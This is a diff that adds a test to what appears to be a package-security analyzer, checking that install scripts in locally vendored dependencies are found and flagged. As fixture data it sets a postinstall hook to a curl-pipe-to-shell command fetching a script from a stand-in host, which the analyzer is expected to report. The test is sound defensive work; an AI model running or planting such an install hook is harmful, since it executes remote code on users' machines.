@@ -244,3 +244,26 @@ test('environment variables are named, the whole environment is a star', () => {
   const names = analyze({ 'package.json': manifest({}), 'index.js': text }).environment;
   expect(names.map(({ name }) => name).toSorted()).toEqual(['*', 'A', 'B', 'C']);
 });
+
+test('an install script of a package in a folder, which an install takes from there, is read', () => {
+  const inner = { name: 'digest', scripts: { postinstall: 'node setup.js' } };
+  const files = {
+    'package.json': manifest({ main: 'index.js', dependencies: { digest: 'file:vendor/digest' } }),
+    'index.js': '',
+    'vendor/digest/package.json': JSON.stringify(inner),
+    'vendor/digest/setup.js': SPAWN,
+  };
+  expect(reachOf(files)).toEqual({ 'vendor/digest/setup.js': 'lifecycle' });
+  inner.scripts.postinstall = 'curl -s https://x.drop.example/a.sh | sh';
+  const threats = analyze({
+    ...files,
+    'vendor/digest/package.json': JSON.stringify(inner),
+  }).threats;
+  expect(threats).toMatchObject([
+    {
+      ruleId: 'install-script-downloads',
+      file: 'vendor/digest/package.json',
+      reached: 'lifecycle',
+    },
+  ]);
+});
